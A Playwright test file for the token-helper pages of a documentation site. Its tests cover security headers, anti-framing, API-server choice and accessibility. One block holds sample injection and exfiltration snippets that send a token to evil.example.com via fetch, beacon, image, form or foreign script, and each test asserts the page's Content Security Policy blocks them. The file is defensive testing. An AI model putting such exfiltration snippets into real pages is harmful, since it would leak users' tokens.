import {existsSync, readFileSync} from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import {toolPages} from '../src/build/tokenTools';
import {expect, openTool, SITE, test} from './toolFixtures';
import {watchShifts} from './watched';

// The other helpers are among the pages of everyPage.spec.ts.
for (const path of ['/tool/baidu/callback.html', '/zh/tool/onedrive/callback.html']) {
  test(`${path} has no accessibility fault, with a failure in view`, async ({page}) => {
    await openTool(page, `${path}?error=access_denied&state=x`);
    await expect(page.getByRole('alert')).toBeVisible();
    const {violations} = await new AxeBuilder({page}).analyze();
    expect(
      violations.map(({id, nodes}) => `${id}: ${nodes.map(({html}) => html).join(' | ')}`),
    ).toEqual([]);
  });
}

test('callbacks answer at every spelling, keep nothing of the query, and are not for search engines', async ({
  page,
}) => {
  for (const path of ['/tool/baidu/callback.html', '/zh/tool/google/callback.html']) {
    const bare = path.replace(/\.html$/, '');
    for (const spelling of [bare, `${bare}/`, path, `${bare}/index.html`]) {
      const response = await page.goto(`${SITE}${spelling}?error=access_denied&state=x`);
      expect(response?.status(), spelling).toBe(200);
      expect(response?.request().redirectedFrom(), spelling).toBeNull();
      await expect(page.getByRole('alert')).toContainText('access_denied');
      expect(page.url()).toBe(SITE + path);
    }
    await expect(page.locator('meta[name=robots]')).toHaveAttribute('content', 'noindex');
  }
});

test('the sitemaps name the helpers, but no callback', () => {
  const sitemaps =
    readFileSync('build/sitemap.xml', 'utf8') + readFileSync('build/zh/sitemap.xml', 'utf8');
  expect(sitemaps).toContain('/tool/115/token.html');
  expect(sitemaps).toContain('/zh/tool/onedrive/webdav.html');
  expect(sitemaps).not.toContain('/callback');
});

test('no old address and no redirect stands in the way of a helper', () => {
  expect(readFileSync('build/_redirects', 'utf8')).not.toMatch(/^\/(zh\/)?tool/m);
  for (const path of toolPages) {
    const file = path.endsWith('/') ? `${path}index.html` : path;
    expect(existsSync(`build${file}`), file).toBe(true);
    expect(existsSync(`build/zh${file}`), file).toBe(true);
  }
});

test('the headers of the helpers are strict, and short enough for every host', async ({page}) => {
  for (const path of ['/tool/', '/zh/tool/baidu/callback']) {
    const response = await page.goto(SITE + path);
    const headers = (await response?.allHeaders()) ?? {};
    expect(headers['referrer-policy']).toBe('no-referrer');
    expect(headers['cache-control']).toBe('no-store');
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).not.toMatch(/unsafe-inline|unsafe-eval/);
  }
  const rules = readFileSync('build/_headers', 'utf8');
  for (const line of rules.split('\n')) expect(line.length).toBeLessThan(2000);
  // A published page has no business with a server on the reader's machine.
  expect(rules).not.toContain('localhost');
  for (const path of toolPages.filter((each) => each.endsWith('.html'))) {
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
      readFileSync(`build${path}`, 'utf8'),
    )?.[1];
    expect(policy, path).toContain("connect-src 'self' https://");
    expect(policy, path).not.toContain('localhost');
  }
});

test('inside a page of another site a helper does nothing, and opens in a window of its own', async ({
  page,
  context,
  baseURL,
  sent,
  complaints,
}) => {
  // A host that sends no headers.
  await page.route(`${SITE}/tool/**`, async (route) => {
    const url = new URL(route.request().url());
    const response = await route.fetch({
      url: `${baseURL ?? ''}${url.pathname}`,
      headers: {...route.request().headers(), host: url.host},
    });
    await route.fulfill({response, headers: {'content-type': 'text/html'}});
  });
  const frames = ['/tool/onedrive/request.html', '/tool/baidu/callback.html?code=ok-1&state=x'];
  await page.route('https://frames.example.com/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<title>Frames</title>${frames
        .map((path) => `<iframe src="${SITE}${path}" width="800" height="900"></iframe>`)
        .join('')}`,
    }),
  );
  await page.goto('https://frames.example.com/');
  for (const [index] of frames.entries()) {
    const frame = page.locator('iframe').nth(index).contentFrame();
    await expect(frame.getByRole('alert').first()).toContainText(
      'Another page shows this page inside it',
    );
    await expect(frame.getByRole('textbox')).toHaveCount(0);
    await expect(frame.getByRole('button', {name: 'Sign in'})).toHaveCount(0);
  }
  expect(sent.filter(({url}) => url.includes('/alist/'))).toEqual([]);
  const opened = context.waitForEvent('page');
  await page
    .locator('iframe')
    .first()
    .contentFrame()
    .getByRole('link', {name: 'Open in a new window'})
    .click();
  const tab = await opened;
  await expect(tab.getByRole('button', {name: 'Sign in to OneDrive'})).toBeVisible();
  // The framework's own remark: browsers give frames of other sites no storage.
  const others = complaints.filter((text) => !text.startsWith('warning: Docusaurus browser'));
  complaints.splice(0, complaints.length, ...others);
});

// Each attack would work on a page without the policy; the browser tells which directive stopped it. Text that becomes code
// is stopped by trusted types. That it's stopped without them too is shown in e2e/fixture-site/contentPolicy.spec.ts.
const attacks: readonly {
  readonly name: string;
  readonly directive: string;
  readonly run: string;
}[] = [
  {
    name: 'an inline script',
    directive: 'require-trusted-types-for',
    run: 'const s = document.createElement("script"); s.textContent = "window.broken = true"; document.head.append(s)',
  },
  {
    name: 'a script of another host',
    directive: 'script-src-elem',
    run: 'const s = document.createElement("script"); s.src = "https://evil.example.com/x.js"; document.head.append(s)',
  },
  {
    name: 'a handler in HTML',
    directive: 'require-trusted-types-for',
    run: 'document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\'window.broken = true\'>")',
  },
  {
    name: 'code from text',
    directive: 'require-trusted-types-for',
    run: 'setTimeout("window.broken = true")',
  },
  {
    name: 'a request that carries data away',
    directive: 'connect-src',
    run: 'fetch("https://evil.example.com/?t=token").catch(() => {})',
  },
  {
    name: 'a beacon',
    directive: 'connect-src',
    run: 'navigator.sendBeacon("https://evil.example.com/", "token")',
  },
  {
    name: 'a picture that carries data away',
    directive: 'img-src',
    run: 'new Image().src = "https://evil.example.com/?t=token"',
  },
  {
    name: 'a frame',
    directive: 'frame-src',
    run: 'const f = document.createElement("iframe"); f.src = "https://evil.example.com/"; document.body.append(f)',
  },
  {
    name: 'a form that carries data away',
    directive: 'form-action',
    run: 'const f = document.createElement("form"); f.action = "https://evil.example.com/"; document.body.append(f); f.submit()',
  },
  {
    name: 'another base address',
    directive: 'base-uri',
    run: 'const b = document.createElement("base"); b.href = "https://evil.example.com/"; document.head.append(b)',
  },
  {
    name: 'a style of another host',
    directive: 'style-src-elem',
    run: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://evil.example.com/x.css"; document.head.append(l)',
  },
];

for (const headers of ['with', 'without'] as const) {
  test(`attacks are stopped ${headers} the headers of the host`, async ({
    page,
    baseURL,
    outsideHosts,
    complaints,
  }) => {
    if (headers === 'without') {
      await page.route(`${SITE}/tool/**`, async (route) => {
        const url = new URL(route.request().url());
        const response = await route.fetch({
          url: `${baseURL ?? ''}${url.pathname}`,
          headers: {...route.request().headers(), host: url.host},
        });
        await route.fulfill({response, headers: {'content-type': 'text/html'}});
      });
    }
    await openTool(page, '/tool/onedrive/callback.html');
    for (const {name, directive, run} of attacks) {
      await test.step(name, async () => {
        const stopped = await page.evaluate(
          ([code, wanted]) =>
            new Promise<string>((resolve) => {
              document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
                // What an attack before has left behind is not what this one meets.
                if (effectiveDirective === wanted) resolve(effectiveDirective);
              });
              // A string of code, as an attacker's script would be; evaluate itself is not bound by the policy.
              try {
                window.eval(`{${code}}`);
              } catch {
                // Trusted types refuse it on the spot.
              }
            }),
          [run, directive] as const,
        );
        expect(stopped).toBe(directive);
        expect(
          await page.evaluate(() => (window as unknown as {broken?: boolean}).broken),
        ).toBeUndefined();
        expect(outsideHosts).toEqual([]);
      });
    }
    // The browser reports the violations; that is what this test is about.
    complaints.length = 0;
  });
}

test.describe('full page loads', () => {
  test('lead into the helpers and out of them', async ({page}) => {
    const loads: string[] = [];
    page.on('request', (request) => {
      if (request.isNavigationRequest()) loads.push(new URL(request.url()).pathname);
    });
    const mark = (): Promise<boolean> =>
      page.evaluate(() => {
        const marked = 'mark' in window;
        Object.assign(window, {mark: true});
        return marked;
      });
    await openTool(page, '/guide/drivers/onedrive.html').catch(() => undefined);
    await page.mouse.move(5, 5);
    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
    expect(await mark()).toBe(false);
    await page.getByRole('link', {name: 'Open the token helper'}).click();
    await page.waitForURL('**/tool/onedrive/request.html');
    expect(await mark()).toBe(false);
    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
    await page.getByRole('link', {name: 'Onedrive driver page'}).click();
    await page.waitForURL('**/guide/drivers/onedrive.html');
    expect(await mark()).toBe(false);
    expect(loads).toEqual([
      '/guide/drivers/onedrive.html',
      '/tool/onedrive/request.html',
      '/guide/drivers/onedrive.html',
    ]);
  });
});

test.describe('the API server', () => {
  test('without an alternative is named above a helper, and nowhere else', async ({page}) => {
    await openTool(page, '/zh/tool/115/token.html');
    // The page is not served from the reader's own machine.
    const line = page.locator('main > p').filter({hasText: 'API 服务器'});
    await expect(line).toHaveText('API 服务器 api.alistgo.com');
    await expect(page.getByRole('combobox', {name: 'API 服务器'})).toHaveCount(0);
    const title = await page.getByRole('heading', {level: 1}).boundingBox();
    expect((await line.boundingBox())?.y).toBeLessThan(title?.y ?? 0);
    await page.goto(`${SITE}/guide/drivers/115.html`);
    await page.mouse.move(5, 5);
    await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
    await expect(page.getByRole('combobox', {name: 'API server'})).toHaveCount(0);
  });

  test(
    'is chosen above a helper and on top of the sidebar of drivers, alike',
    {tag: ['@2-sidebar-api-server-selector', '@9-api-server']},
    async ({page, baseURL}) => {
      const origin = baseURL ?? '';
      const select = page.getByRole('combobox', {name: 'API server'});
      await page.goto(`${origin}/tool/115/token.html`);
      await expect(select.getByRole('option')).toHaveText([
        'api.alistgo.com (cf)',
        'http://localhost:3002 (local)',
      ]);
      const title = await page.getByRole('heading', {level: 1}).boundingBox();
      const choice = await select.boundingBox();
      expect(choice?.y).toBeLessThan(title?.y ?? 0);
      // Its name is in the same line.
      const name = await page.getByText('API server', {exact: true}).boundingBox();
      expect(name?.y).toBeGreaterThanOrEqual(choice?.y ?? Infinity);
      await select.selectOption('local');

      await page.goto(`${origin}/guide/drivers/115.html`);
      await page.mouse.move(5, 5);
      const inSidebar = page.locator('#site-nav').getByRole('combobox', {name: 'API server'});
      await expect(inSidebar).toHaveValue('local');
      const first = await page.locator('#site-nav li:visible').first().boundingBox();
      expect((await inSidebar.boundingBox())?.y).toBeLessThan(first?.y ?? 0);
      await inSidebar.selectOption('cf');
      expect(await page.evaluate(() => localStorage.getItem('api_name'))).toBe('cf');

      await page.goto(`${origin}/faq/`);
      await page.mouse.move(5, 5);
      await expect(page.locator('html[data-has-hydrated="true"]')).toBeAttached();
      await expect(select).toHaveCount(0);
    },
  );

  test('is the own machine when the site runs there, also after a reload', async ({
    page,
    baseURL,
    sent,
  }) => {
    await page.goto(`${baseURL ?? ''}/tool/115/token.html`);
    const select = page.getByRole('combobox', {name: 'API server'});
    await expect(select.getByRole('option')).toHaveCount(2);
    await select.selectOption('local');
    await page.reload();
    await expect(select).toHaveValue('local');
    await page.locator('summary', {hasText: /^Requests/}).click();
    await expect(page.getByRole('list', {name: 'Requests, in order'})).toContainText(
      'localhost:3002',
    );
    await page.getByRole('button', {name: 'Get a QR code'}).click();
    await expect(page.getByRole('img', {name: /115/})).toBeVisible();
    expect(sent.some(({url}) => url.startsWith('http://localhost:3002/alist/'))).toBe(true);
    expect(sent.some(({url}) => url.includes('api.alistgo.com'))).toBe(false);
  });

  test('with an unknown name in storage is the default, and the name is repaired', async ({
    page,
  }) => {
    await page.addInitScript(() => localStorage.setItem('api_name', 'raw_jp'));
    await openTool(page, '/tool/115/token.html');
    await expect(page.locator('main > p').first()).toHaveText('API server api.alistgo.com');
    await expect.poll(() => page.evaluate(() => localStorage.getItem('api_name'))).toBe('cf');
  });
});

for (const [width, height] of [
  [375, 667],
  [1440, 900],
] as const) {
  test(`what to do is on the first screen of ${width} px, after one sentence on trust`, async ({
    page,
  }) => {
    await page.setViewportSize({width, height});
    for (const [path, name, trust] of [
      ['/tool/115/token.html', 'Get a QR code', 'The API server api.alistgo.com sees your tokens'],
      ['/zh/tool/115/cookie.html', '获取二维码', 'API 服务器 api.alistgo.com 会看到令牌'],
      ['/tool/baidu/callback.html', 'Sign in to Baidu Netdisk', 'api.alistgo.com sees your tokens'],
    ] as const) {
      await openTool(page, path);
      await expect(page.getByRole('button', {name, exact: true}), path).toBeInViewport({ratio: 1});
      await expect(page.getByText(trust), path).toBeInViewport({ratio: 1});
    }
  });
}

test('the sentence on trust follows what is chosen', async ({page}) => {
  await openTool(page, '/tool/dropbox/request.html');
  await expect(page.getByText('gets the tokens directly from Dropbox')).toBeVisible();
  await page.getByRole('radio', {name: "The API server's app"}).check();
  await expect(page.getByText('The API server api.alistgo.com sees your tokens')).toBeVisible();
  await openTool(page, '/tool/onedrive/request.html');
  await expect(page.getByText('sees your client secret and your tokens')).toBeVisible();
  await openTool(page, '/tool/wopan/token.html');
  await expect(page.getByText('sees your password and your tokens')).toBeVisible();
});

test('a form that arrives moves nothing on the page', async ({page}) => {
  const shiftOf = await watchShifts(page);
  for (const path of ['/tool/115/token.html', '/zh/tool/onedrive/request.html']) {
    await openTool(page, path);
    await expect(page.locator('#tool').locator('..').getByRole('button').first()).toBeVisible();
    expect(await shiftOf(), path).toBeLessThan(0.01);
  }
});

test('without scripts a helper says so and shows the way by hand', async ({browser, baseURL}) => {
  const context = await browser.newContext({javaScriptEnabled: false});
  const page = await context.newPage();
  await page.goto(`${baseURL ?? ''}/tool/onedrive/request.html`);
  expect(await page.locator('noscript').first().innerHTML()).toContain('needs JavaScript');
  await expect(page.getByText('"$CLIENT_SECRET"')).toBeVisible();
  await context.close();
});

test('the way by hand comes into view although no script arrives', async ({page}) => {
  await page.route('**/*.js', (route) => route.abort());
  await page.goto('/tool/baidu/callback.html');
  await expect(page.locator('#manual')).toBeVisible();
});

for (const [prefix, name] of [
  ['', 'How to run your own API server'],
  ['/zh', '如何自建 API 服务器'],
] as const) {
  test(`the words on trust lead to the page about an own server (${prefix || 'en'})`, async ({
    page,
  }) => {
    const link = page.getByRole('link', {name});
    for (const path of ['/tool/', '/tool/onedrive/request.html', '/tool/115/token.html']) {
      await openTool(page, prefix + path);
      await expect(link).toBeVisible();
    }
    // Where no API server is asked, and where an own one could not help, there is nothing to lead to.
    for (const path of ['/tool/google/request.html', '/tool/wopan/token.html']) {
      await openTool(page, prefix + path);
      await expect(link).toHaveCount(0);
    }
    await openTool(page, `${prefix}/tool/baidu/callback.html`);
    await link.click();
    await page.waitForURL(`${SITE}${prefix}/guide/advanced/token-server.html`);
  });
}

test('a helper works by keyboard alone', async ({page}) => {
  await openTool(page, '/tool/115/token.html');
  await page.getByRole('radio', {name: 'My own app'}).focus();
  await page.keyboard.press('Space');
  await page.keyboard.press('Tab');
  await page.keyboard.type('ok');
  await page.keyboard.press('Enter');
  await expect(page.locator('#result')).toBeFocused({timeout: 30_000});
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(page.getByText(/^mock-refresh-115-/)).toBeVisible();
});
